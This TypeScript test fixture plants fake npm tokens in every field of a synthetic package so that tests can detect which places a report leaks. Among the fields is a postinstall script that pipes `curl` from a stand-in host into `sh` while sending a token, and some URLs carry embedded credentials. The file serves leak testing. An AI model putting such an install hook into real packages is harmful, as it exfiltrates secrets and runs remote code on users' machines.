import { fake } from './fake.ts'
import { type Files, pack } from './pack.ts'

/** One token of its own for each place, so that a failure says which place leaks. */
export const planted: Record<string, string> = {}
/** The token of a place. */
export function token(place: string): string {
  planted[place] ??= fake('npm_{alnum:30}{crc32-base62:6}', Object.keys(planted).length + 1)
  return planted[place]
}

/** A package with a token in every field that a report can show. */
export function plantedFiles(): Files {
  const map = {
    version: 3,
    file: `${token('the file key of a map')}.js`,
    sourceRoot: '',
    sources: [`../src/${token('a source name')}.ts`, `https://maps.example/${token('a source URL')}/src.zip`],
    sourcesContent: [`let a = "${token('a source')}"`, null],
    names: [token('the names of a map')],
    mappings: 'AAAA',
    [token('a key of a map')]: 1,
  }
  const base64 = Buffer.from(`token=${token('base64')}`).toString('base64')
  return {
    'package.json': {
      name: 'p',
      version: `1.0.0-${token('a version')}`,
      license: `SEE ${token('a license')}`,
      repository: `https://x:${token('a repository URL')}@git.example/p.git`,
      scripts: { postinstall: `curl https://host.example/?t=${token('an install script')} | sh` },
      [token('a JSON key')]: true,
    },
    [`dist/${token('a file name')}.js`]: '1',
    [`${token('a folder name')}/index.js`]: '1',
    'dist/app.js': `x("${token('code')}", "${base64}")\n//# sourceMappingURL=https://cdn.example/${token('a map URL')}.map\n`,
    'dist/app.js.map': map,
    'dist/.env': `NPM_TOKEN=${token('an environment file')}\nURL=https://u:${token('a URL')}@host.internal/x\n`,
    'vendor.tgz': pack({
      [`${token('a name in an archive')}.txt`]: 'x',
      'broken.tgz': Buffer.from([0x1f, 0x8b, 8, 0, 1]),
    }),
    [`${token('the name of a broken file')}.tgz`]: pack({ a: 'b' }).subarray(0, 40),
    'dist/utf16.txt': Buffer.from(`\ufefftoken = ${token('UTF-16')}`, 'utf16le'),
  }
}

/** The places whose token, or the better half of it, stands in `text`. */
export function leaksIn(text: string): readonly string[] {
  return Object.entries(planted)
    .filter(([, secret]) => text.includes(secret.slice(4, 24)))
    .map(([place]) => place)
}
